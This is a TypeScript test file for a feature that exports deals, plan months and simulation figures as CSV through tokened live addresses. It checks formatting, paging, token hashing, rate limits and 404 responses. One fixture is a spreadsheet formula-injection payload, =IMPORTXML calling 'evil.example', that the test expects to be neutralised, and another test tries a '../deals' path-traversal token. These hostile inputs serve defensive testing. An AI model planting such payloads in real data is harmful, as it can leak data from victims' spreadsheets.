import { afterEach, expect, onTestFinished, test } from "vitest";
import { HOUR_MS } from "../../platform/clock/durations.ts";
import { createTestPools } from "../../platform/db/test-pools.ts";
import { newId } from "../../platform/db/uuid.ts";
import { createWithUser, type WithUser } from "../../platform/db/with-user.ts";
import { testServer } from "../../test/server.ts";
import { testDeal } from "../deals/test-deal.ts";
import { testChannel, testDgPlan } from "../dg-plans/test-dg-plan.ts";
import { testDetails } from "../gtm-plans/test-plan.ts";
import { testCost } from "../product-costs/test-cost.ts";
import { testSimulation } from "../simulations/test-simulation.ts";
import { dealPages } from "./deal-pages.ts";

const server = testServer({ user: "per test", plan: "enterprise", rateLimits: 1_000 });
let moved = 0;
afterEach(() => {
  server.clock.advance(-moved);
  moved = 0;
});

async function create(content: string, subjectId: string | null = null) {
  const answer = await server.user.api.send("createLiveTable", {
    body: { name: "Board", content, subjectId },
  });
  expect(answer.statusCode, answer.body).toBe(200);
  const { table, url } = answer.json();
  return { id: table.id, url, token: url.split("/api/live/")[1] ?? "" };
}

const read = (token: string) => server.client.send("readLiveTable", { params: { token } });

async function linesOf(token: string): Promise<string[]> {
  const answer = await read(token);
  expect(answer.statusCode, answer.body).toBe(200);
  expect(answer.headers["content-type"]).toBe("text/csv; charset=utf-8");
  return answer.body.trimEnd().split("\r\n");
}

test("deals are read without a session, numbers as numbers and no text as a formula", async () => {
  await server.user.api.callUntyped("createDeal", {
    body: testDeal({ name: '=IMPORTXML("https://evil.example")', Amount: 1234.5 }),
  });
  const { token } = await create("deals");
  const [head, deal] = await linesOf(token);
  expect(head).toBe(
    '"Deal ID","Name","Source","Channel","Product","Geography","Industry","Stage","Status","Probability %","Amount","Currency","Created","Closes"',
  );
  expect(deal).toContain(`"'=IMPORTXML(""https://evil.example"")"`);
  expect(deal).toContain(",1234.5,");
});

async function storeMany(count: number): Promise<void> {
  await server.query(
    `insert into deals (owner_id, id, source, external_id, status, amount_cents)
     select $1, ('01980000-0000-7000-8000-' || lpad(n::text, 12, '0'))::uuid, 'manual', 'D' || n, 'open', 100
     from generate_series(1, $2::int) as n order by md5(n::text)`,
    [server.user.userId, count],
  );
}

test("many deals are each read once, in the order in which they were stored", async () => {
  await storeMany(4_000);
  const { token } = await create("deals");
  const [, ...lines] = await linesOf(token);
  expect(lines.map((line) => line.split(",")[0])).toEqual(
    Array.from({ length: 4_000 }, (_, index) => `"D${index + 1}"`),
  );
});

test("deals that several tables have are read a page at a time", async () => {
  await storeMany(4_500);
  const pools = createTestPools(server.database, { maximumConnections: 3 });
  onTestFinished(() => pools.close());
  const withUser = createWithUser(pools.app);
  const reads = { open: 0, most: 0 };
  const report: WithUser["report"] = async (userId, work) => {
    reads.open += 1;
    reads.most = Math.max(reads.most, reads.open);
    try {
      return await withUser.report(userId, work);
    } finally {
      reads.open -= 1;
    }
  };
  const counted: WithUser = Object.assign(withUser.bind(undefined), { read: withUser.read, report });
  const linesOfPages = async () => {
    const lines: number[] = [];
    for await (const page of dealPages(counted, server.user.userId))
      lines.push(page.split("\r\n").length - 1);
    return lines;
  };
  const tables = await Promise.all([linesOfPages(), linesOfPages(), linesOfPages()]);
  expect(tables).toEqual(tables.map(() => [1, 2_000, 2_000, 500]));
  expect(reads).toEqual({ open: 0, most: 1 });
});

test("a GTM plan is read by month, and its channels by month, in the same sums", async () => {
  const { api } = server.user;
  const { id: gtmPlanId } = await api.callUntyped("saveBasicDetails", { body: testDetails() });
  await api.callUntyped("createDgPlan", { body: testDgPlan({ gtmPlanId, channels: [testChannel()] }) });
  const [plan, channels] = [
    await create("plan-months", gtmPlanId),
    await create("channel-months", gtmPlanId),
  ];
  const [head, ...months] = await linesOf(plan.token);
  expect(head).toBe('"Month","Planned pipeline","Planned revenue","Planned cost","Currency"');
  expect(months).toHaveLength(60);
  const [channelHead, ...rows] = await linesOf(channels.token);
  expect(channelHead).toBe(
    '"Channel","Product","Geography","Month","Planned pipeline","Planned revenue","Planned cost","Currency"',
  );
  const sum = (lines: readonly string[], column: number) =>
    lines.reduce((total, line) => total + Number(line.split(",")[column]), 0);
  expect(sum(months, 3)).toBeGreaterThan(0);
  expect(sum(rows, 6)).toBeCloseTo(sum(months, 3), 0);
});

test("a simulation is read as one line for each figure and year", async () => {
  const { api } = server.user;
  const { id: costId } = await api.callUntyped("createProductCost", { body: testCost() });
  const { id } = await api.callUntyped("createSimulation", { body: testSimulation({ costId }) });
  const { token } = await create("simulation-years", id);
  const [head, ...rows] = await linesOf(token);
  expect(head).toBe('"Scenario","Plan","Figure","Year","Year name","Value","Currency"');
  expect(rows.filter((row) => row.startsWith('"Middle","","Revenue",'))).toHaveLength(5);
});

test("an address is listed without its token, which is stored as a hash, and ends when it is deleted", async () => {
  const { id, token } = await create("deals");
  await linesOf(token);
  const listed = await server.user.api.send("listLiveTables");
  const { tables } = await server.user.api.call("listLiveTables");
  expect(tables).toMatchObject([{ id, name: "Board" }]);
  expect(tables[0]?.lastUsedAt).not.toBeNull();
  expect(listed.body).not.toContain(token);
  const stored = await server.query<{ line: string }>("select t::text as line from live_tables t");
  expect(stored.map(({ line }) => line).join("")).not.toContain(token);
  await server.user.api.call("deleteLiveTable", { params: { id } });
  expect((await read(token)).statusCode).toBe(404);
});

test("an address is read at most 60 times an hour, and others are not held up", async () => {
  const [busy, other] = [await create("deals"), await create("deals")];
  const answers = await Promise.all(Array.from({ length: 63 }, () => read(busy.token)));
  const statuses = answers.map(({ statusCode }) => statusCode);
  expect(statuses.filter((status) => status === 200)).toHaveLength(60);
  expect(statuses.filter((status) => status === 429)).toHaveLength(3);
  expect((await read(other.token)).statusCode).toBe(200);
  server.clock.advance(HOUR_MS + 1_000);
  moved = HOUR_MS + 1_000;
  expect((await read(busy.token)).statusCode).toBe(200);
});

test("a wrong token, and the table of a deleted simulation, answer 404", async () => {
  const { api } = server.user;
  const { id: costId } = await api.callUntyped("createProductCost", { body: testCost() });
  const { id } = await api.callUntyped("createSimulation", { body: testSimulation({ costId }) });
  const { token } = await create("simulation-years", id);
  await api.call("deleteSimulation", { params: { id } });
  for (const wrong of [token, "x".repeat(43), "", "../deals"]) {
    expect((await read(wrong)).statusCode).toBe(404);
  }
});

test("a table of no simulation or plan is refused, and one of what the workspace does not have is not found", async () => {
  const statusWith = async (content: string, subjectId: string | null) =>
    (await server.user.api.send("createLiveTable", { body: { name: "Board", content, subjectId } }))
      .statusCode;
  for (const content of ["plan-months", "simulation-years"]) {
    expect(await statusWith(content, null)).toBe(422);
    expect(await statusWith(content, newId())).toBe(404);
  }
});
